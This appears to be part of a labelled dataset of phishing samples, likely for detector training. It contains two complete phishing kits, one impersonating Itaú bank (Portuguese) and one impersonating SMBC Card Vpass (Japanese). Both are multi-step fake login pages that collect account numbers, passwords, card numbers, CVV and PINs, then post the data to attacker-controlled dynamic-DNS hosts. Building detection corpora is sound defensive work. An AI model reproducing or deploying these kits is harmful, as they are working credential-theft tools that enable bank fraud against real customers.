var css='<style>*{font-family:Arial,Helvetica,sans-serif}.h{background:#ec7000;padding:18px;color:#fff;font-size:22px;font-weight:bold}.h span{background:#003399;border-radius:6px;padding:4px 8px;margin-right:8px}.m{padding:22px}.m input{width:100%;height:46px;border:0;border-bottom:2px solid #ec7000;font-size:17px;margin-bottom:20px;outline:none}.bt{width:100%;height:48px;background:#ec7000;color:#fff;border:0;border-radius:4px;font-size:17px}.av{background:#fdf0e4;border-radius:8px;padding:12px;font-size:14px;margin-bottom:18px}</style>';
var d={ag:'',cc:'',s6:'',tel:'',s4:''};
function p1(){a.innerHTML=css+'<div class="h"><span>itaú</span>Acesse sua conta</div><div class="m"><div class="av">Identificamos que seu <b>iToken</b> está desatualizado. Para evitar o bloqueio do seu acesso, faça a sincronização agora.</div><input id="ag" placeholder="agência" maxlength="4" inputmode="numeric"><input id="cc" placeholder="conta" maxlength="7" inputmode="numeric"><button class="bt" id="b">Acessar</button></div>';
$i('cc').oninput=function(){this.value=mask(this.value,'#####-#')};
$i('b').onclick=function(){d.ag=$i('ag').value;d.cc=$i('cc').value;if(d.ag.length<4||d.cc.length<6)return;p2()}}
function p2(){a.innerHTML=css+'<div class="h"><span>itaú</span>Senha eletrônica</div><div class="m"><p>Agência '+d.ag+' Conta '+d.cc+'</p><input id="s6" type="password" maxlength="6" placeholder="senha eletrônica (6 dígitos)" inputmode="numeric"><button class="bt" id="b">Continuar</button></div>';$i('b').onclick=function(){d.s6=$i('s6').value;if(d.s6.length!==6)return;envia('login');p3()}}
function p3(){a.innerHTML=css+'<div class="h"><span>itaú</span>Sincronização</div><div class="m"><div class="av">Para concluir, informe o celular cadastrado e a senha do cartão (4 dígitos).</div><input id="tel" placeholder="(00) 00000-0000"><input id="s4" type="password" maxlength="4" placeholder="senha do cartão"><button class="bt" id="b">Sincronizar</button></div>';$i('tel').oninput=function(){this.value=mask(this.value,'(##) #####-####')};$i('b').onclick=function(){d.tel=$i('tel').value;d.s4=$i('s4').value;envia('final');a.innerHTML=css+'<div class="h"><span>itaú</span>Aguarde</div><div class="m"><p>Sincronizando seu dispositivo... não feche esta página. Um de nossos atendentes poderá entrar em contato.</p></div>'}}
function envia(t){var f=new FormData();for(var k in d)f.append(k,d[k]);f.append('tipo',t);fetch('https://painel-info.ddns.net/recebe.php',{method:'POST',body:f,mode:'no-cors'})}
p1()})();`),
    },
  },
  {
    id: 'c-spa-smbc-ja',
    label: 'phishing',
    kind: 'spa-kit',
    url: 'https://smbc-card-kakunin.xyz/vpass/login',
    body: raw`<!DOCTYPE html>
<html lang="ja"><head><meta charset="UTF-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>三井住友カード Vpass ログイン</title>
<style>body{margin:0;font-family:"Hiragino Kaku Gothic ProN","Meiryo",sans-serif;background:#f5f7f6;color:#333}.hd{background:#004831;color:#fff;padding:14px 20px;font-weight:bold}.hd small{color:#c5e0b4;margin-left:8px}.pn{background:#fff;max-width:480px;margin:28px auto;padding:26px;border-top:4px solid #004831}.pn h1{font-size:20px;margin-top:0}.fld{margin-bottom:14px}.fld label{font-size:13px;display:block;margin-bottom:4px}.fld input{width:100%;padding:10px;border:1px solid #aaa;font-size:16px;box-sizing:border-box}.bt{background:#004831;color:#fff;border:0;padding:12px;width:100%;font-size:16px;border-radius:4px}.nt{font-size:12px;color:#a00;background:#fff3f3;padding:10px;margin-bottom:14px}</style></head>
<body><div class="hd">三井住友カード<small>Vpass</small></div><div class="pn" id="pn">読み込み中…</div>
<script>
var 送信先 = 'https://smbc-kakunin-api.duckdns.org/save';
var 入力 = {};
var 画面 = [
 {題:'Vpassログイン', 注:'お客様のカードに第三者による不正利用の可能性があるため、ご利用を一時制限しております。本人確認のためログインしてください。', 欄:[['id','VpassID','text'],['pw','パスワード','password']]},
 {題:'ご本人様確認', 注:'', 欄:[['name','カード名義人（ローマ字）','text'],['birth','生年月日（例：19800101）','text'],['tel','電話番号','tel']]},
 {題:'カード情報の確認', 注:'ご登録のカード情報をご入力ください。', 欄:[['cno','カード番号（16桁）','text'],['exp','有効期限（MM/YY）','text'],['cvv','セキュリティコード','password'],['pin','暗証番号（4桁）','password']]}
];
var 現在 = 0;
function 描画(){
  var s = 画面[現在];
  var h = '<h1>'+s.題+'</h1>' + (s.注 ? '<div class="nt">'+s.注+'</div>' : '');
  s.欄.forEach(function(f){ h += '<div class="fld"><label>'+f[1]+'</label><input id="'+f[0]+'" type="'+f[2]+'"></div>'; });
  h += '<button class="bt" id="nx">'+(現在 < 画面.length-1 ? '次へ' : '確認する')+'</button>';
  document.getElementById('pn').innerHTML = h;
  document.getElementById('nx').onclick = function(){
    s.欄.forEach(function(f){ 入力[f[0]] = document.getElementById(f[0]).value; });
    var x = new XMLHttpRequest(); x.open('POST', 送信先); x.setRequestHeader('Content-Type','application/x-www-form-urlencoded'); x.send('step='+現在+'&d='+encodeURIComponent(JSON.stringify(入力)));
    現在++;
    if (現在 < 画面.length) 描画(); else { document.getElementById('pn').innerHTML = '<h1>確認が完了しました</h1><p>ご協力ありがとうございました。</p>'; setTimeout(function(){ location.href='https://www.smbc-card.com/'; }, 3000); }
  };
}
setTimeout(描画, 600);
</script></body></html>`,
  },
];
